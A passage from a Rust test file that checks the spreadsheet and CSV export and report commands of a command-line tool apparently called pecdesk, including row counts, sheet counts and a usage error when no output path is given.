    ] {
        let (rows, _) = read_sheet(&path, sheet);
        let (n, bytes) = export(&f, ExportFormat::Csv, &[state], "lista.csv");
        assert!(n > 0, "{sheet} is not empty in the fixture");
        let csv_rows = parse_csv(&bytes, b',');
        assert_eq!(rows.len(), csv_rows.len(), "{sheet}");
        assert_cells_match_csv(&rows[1..], &csv_rows[1..]);
    }
}

#[test]
fn cli_writes_both_workbooks() {
    let f = fixture();
    let db = f.db.to_str().unwrap().to_string();
    let export = f.path("albo.xlsx");
    let output = pecdesk(
        f.dir.path(),
        &[
            "--db",
            &db,
            "export",
            "--format",
            "xlsx",
            "--out",
            export.to_str().unwrap(),
        ],
    );
    assert!(output.status.success(), "{}", stderr(&output));
    assert_eq!(read_sheet(&export, "Esportazione").0.len(), 8);
    let report = f.path("riepilogo.xlsx");
    let output = pecdesk(
        f.dir.path(),
        &[
            "--db",
            &db,
            "report",
            "--format",
            "xlsx",
            "--out",
            report.to_str().unwrap(),
        ],
    );
    assert!(output.status.success(), "{}", stderr(&output));
    assert_eq!(sheet_names(&report).len(), 8);
    assert_private(&report);
    // --format xlsx without --out is a usage error.
    let output = pecdesk(f.dir.path(), &["--db", &db, "report", "--format", "xlsx"]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
}
